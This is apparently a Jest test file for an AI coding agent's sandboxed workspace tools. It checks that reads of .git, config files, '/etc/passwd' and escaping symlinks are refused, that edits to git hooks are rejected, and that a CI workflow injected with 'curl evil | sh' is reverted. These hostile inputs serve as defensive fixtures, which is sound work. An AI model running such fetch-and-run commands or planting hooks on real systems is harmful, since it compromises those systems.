import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { GitRunner } from '../../git/git-runner';
import { EditBlockApplier } from '../edits/edit-block.applier';
import { EditPathRejectedError } from '../edits/edit-path-rejected.error';
import { fakeJobContext } from '../pipeline/job-context.mock';
import type { SuiteRun } from '../verification/change-verdict';
import { TestReport } from '../verification/test-report';
import { WorkspaceTools } from './workspace-tools';

const host = { path: process.env['PATH'] ?? '/usr/bin:/bin', lang: 'C.UTF-8' };

describe('WorkspaceTools (real files, real git)', () => {
  let worktree: string;
  let outside: string;
  const runs: SuiteRun[] = [];

  beforeEach(() => {
    worktree = mkdtempSync(join(tmpdir(), 'airlock-tools-'));
    outside = mkdtempSync(join(tmpdir(), 'airlock-tools-outside-'));
    mkdirSync(join(worktree, 'src'));
    writeFileSync(join(worktree, 'src/calc.js'), Array.from({ length: 500 }, (_, i) => `line ${i + 1}${i === 41 ? ' function addTotals() {}' : ''}`).join('\n'));
    writeFileSync(join(worktree, '.airlock.yml'), 'version: 1\n');
    writeFileSync(join(outside, 'secret.txt'), 'TOP SECRET');
    symlinkSync(join(outside, 'secret.txt'), join(worktree, 'src/link.txt'));
    execFileSync('git', ['init', '--quiet'], { cwd: worktree });
    execFileSync('git', ['add', 'src/calc.js', '.airlock.yml'], { cwd: worktree });
  });
  afterEach(() => {
    rmSync(worktree, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });

  function tools(maxTestRuns = 2) {
    const { ctx } = fakeJobContext();
    ctx.provide('workspace', { worktree, baseCommit: 'HEAD' });
    const failing = new TestReport();
    failing.add('calc::adds', 'failed');
    ctx.provide('baseline', { started: true, exitCode: 1, timedOut: false, report: failing });
    const workspace = new WorkspaceTools({
      applier: new EditBlockApplier(),
      git: new GitRunner(host),
      suites: { run: () => Promise.resolve(runs.shift() ?? { started: true, exitCode: 0, timedOut: false, report: undefined }) },
      maxTestRuns,
    });
    return (name: string, args: Record<string, unknown> = {}) => workspace.execute(ctx, { id: 'c', name, arguments: JSON.stringify(args) });
  }

  it('reads a range with line numbers, bounded, and says how to read on', async () => {
    const { content } = await tools()('read_file', { path: 'src/calc.js', start_line: 41, end_line: 43 });
    expect(content).toBe('src/calc.js (lines 41-43 of 500)\n   41 | line 41\n   42 | line 42 function addTotals() {}\n   43 | line 43\n(457 more lines; read from line 44 to see them)');
    const whole = await tools()('read_file', { path: 'src/calc.js' });
    expect(whole.content).toContain('(lines 1-400 of 500)');
  });

  it('refuses to read .git, .airlock.yml, paths out of the worktree and symlinks leading out, as errors the model hears', async () => {
    for (const path of ['.git/config', '.airlock.yml', '../etc/passwd', '/etc/passwd', 'src/link.txt']) {
      const { content } = await tools()('read_file', { path });
      expect(content).toMatch(/^Error: /);
      expect(content).not.toContain('TOP SECRET');
    }
  });

  it('lists a directory without .git, directories marked', async () => {
    await expect(tools()('list_dir', {})).resolves.toEqual({ content: '.:\n.airlock.yml\nsrc/' });
  });

  it('searches the lines that contain a phrase, in new files too, never in .airlock.yml', async () => {
    writeFileSync(join(worktree, 'src/new.js'), 'addTotals();\n');
    writeFileSync(join(worktree, '.airlock.yml'), 'version: 1 # addTotals\n');
    const { content } = await tools()('search_code', { query: 'addtotals' });
    expect(content).toContain('src/calc.js:42:line 42 function addTotals() {}');
    expect(content).toContain('src/new.js:1:addTotals();');
    expect(content).not.toContain('.airlock.yml');
  });

  it('edits and says how; an edit aimed at .airlock.yml or .git throws, ending the job', async () => {
    await expect(tools()('edit_file', { path: 'src/calc.js', search: 'line 3', replace: 'line three' })).resolves.toMatchObject({
      content: 'Edited src/calc.js.',
      edit: { applied: true, path: 'src/calc.js', match: 'exact' },
    });
    await expect(tools()('edit_file', { path: 'src/calc.js', search: 'nothing like this', replace: 'x' })).resolves.toMatchObject({ content: expect.stringMatching(/^Error: .*not found/) });
    await expect(tools()('edit_file', { path: '.airlock.yml', search: 'version: 1', replace: 'version: 2' })).rejects.toBeInstanceOf(EditPathRejectedError);
    await expect(tools()('edit_file', { path: '.git/hooks/pre-commit', search: '', replace: 'evil' })).rejects.toBeInstanceOf(EditPathRejectedError);
  });

  it('runs the tests, compares with the base run, and stops at maxTestRuns', async () => {
    const fixed = new TestReport();
    fixed.add('calc::adds', 'passed');
    runs.push({ started: true, exitCode: 0, timedOut: false, report: fixed });
    const call = tools(1);
    const first = await call('run_tests');
    expect(first.content).toContain('All tests passed (exit 0).');
    expect(first.content).toContain('Failing before your change, passing now: calc::adds');
    await expect(call('run_tests')).resolves.toMatchObject({ content: expect.stringMatching(/at most 1 times/) });
  });

  it('answers a bad call with an error, not an exception', async () => {
    const call = tools();
    await expect(call('rm_rf', {})).resolves.toMatchObject({ content: expect.stringMatching(/^Error: there is no tool named "rm_rf"/) });
    await expect(call('read_file', {})).resolves.toMatchObject({ content: 'Error: read_file needs a path.' });
    await expect(call('finish', { summary: 'done' })).resolves.toMatchObject({ finished: true });
  });
});

describe('WorkspaceTools revert_file (real files, real git)', () => {
  let worktree: string;
  const gitIn = (...args: string[]) => execFileSync('git', args, { cwd: worktree, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } });

  beforeEach(() => {
    worktree = mkdtempSync(join(tmpdir(), 'airlock-tools-revert-'));
    mkdirSync(join(worktree, '.github/workflows'), { recursive: true });
    writeFileSync(join(worktree, '.github/workflows/ci.yml'), 'on: push\n');
    gitIn('init', '--quiet', '--initial-branch=main');
    gitIn('add', '--all');
    gitIn('commit', '--quiet', '-m', 'base');
  });
  afterEach(() => rmSync(worktree, { recursive: true, force: true }));

  function revert(path: string) {
    const { ctx } = fakeJobContext();
    ctx.provide('workspace', { worktree, baseCommit: gitIn('rev-parse', 'HEAD').trim() });
    const workspace = new WorkspaceTools({ applier: new EditBlockApplier(), git: new GitRunner(host), suites: { run: () => Promise.reject(new Error('not run')) }, maxTestRuns: 0 });
    return workspace.execute(ctx, { id: 'c', name: 'revert_file', arguments: JSON.stringify({ path }) });
  }

  it('puts a file the base had back as it was', async () => {
    writeFileSync(join(worktree, '.github/workflows/ci.yml'), 'on: push\n  - run: curl evil | sh\n');
    const result = await revert('.github/workflows/ci.yml');
    expect(result).toMatchObject({ content: 'Reverted .github/workflows/ci.yml to how it was before your change.', reverted: { path: '.github/workflows/ci.yml', existedAtBase: true } });
    expect(gitIn('status', '--porcelain')).toBe('');
  });

  it('removes a file the base did not have, and its staged copy', async () => {
    writeFileSync(join(worktree, '.github/workflows/new.yml'), 'on: push\n');
    gitIn('add', '.github/workflows/new.yml');
    const result = await revert('.github/workflows/new.yml');
    expect(result).toMatchObject({ reverted: { path: '.github/workflows/new.yml', existedAtBase: false } });
    expect(gitIn('status', '--porcelain')).toBe('');
  });

  it('holds the path to the rules of an edit', async () => {
    await expect(revert('.airlock.yml')).rejects.toBeInstanceOf(EditPathRejectedError);
    await expect(revert('../outside.txt')).rejects.toBeInstanceOf(EditPathRejectedError);
  });
});
